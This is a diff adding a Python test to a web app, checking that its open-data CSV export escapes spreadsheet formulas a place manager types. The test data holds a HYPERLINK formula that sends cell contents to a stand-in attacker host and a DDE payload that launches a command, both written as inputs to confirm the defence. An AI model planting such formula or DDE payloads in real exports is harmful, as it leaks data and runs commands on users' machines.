@@ -7,10 +7,12 @@ import io
 
 import httpx
 
+from kernel.db import Database
 from kernel.settings import Settings
 from mutualab.app import create_app
 from resources.opendata import SCHEMA_FIELDS
 from tests.factories import make_place, make_resource
+from tests.support.accounts import make_user
 from tests.support.net import free_port
 
 
@@ -110,6 +112,25 @@ async def test_open_data_export(client: httpx.AsyncClient, admin_headers: dict[s
     as_json = (await client.get("/api/opendata/lieux.json")).json()
     assert [p["id"] for p in as_json] == [row["id"]]
     assert as_json[0]["horaires"] == row["horaires"]
+
+
+async def test_open_data_csv_runs_no_formula_a_manager_typed(
+    client: httpx.AsyncClient, admin_headers: dict[str, str], database: Database
+) -> None:
+    place = await make_place(client, admin_headers)
+    await make_resource(client, admin_headers, place["id"], kind="machine")
+    manager = await make_user(database, "gerant@lannion.fr", manages=(place["id"],))
+    formula = '=HYPERLINK("https://evil.example/?"&A1;"Réserver")'
+    changed = await client.patch(
+        f"/api/places/{place['id']}",
+        json={"name": formula, "description": "@SUM(1+1)*cmd|' /C calc'!A0"},
+        headers=manager.headers,
+    )
+    assert changed.status_code == 200, changed.text
+    [row] = list(csv.DictReader(io.StringIO((await client.get("/api/opendata/lieux.csv")).text)))
+    assert row["nom"] == "'" + formula
+    assert row["presentation_resume"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["longitude"] == "-3.46"  # a number stays a number
 
 
 async def test_out_of_range_numbers_and_nulls_are_refused(
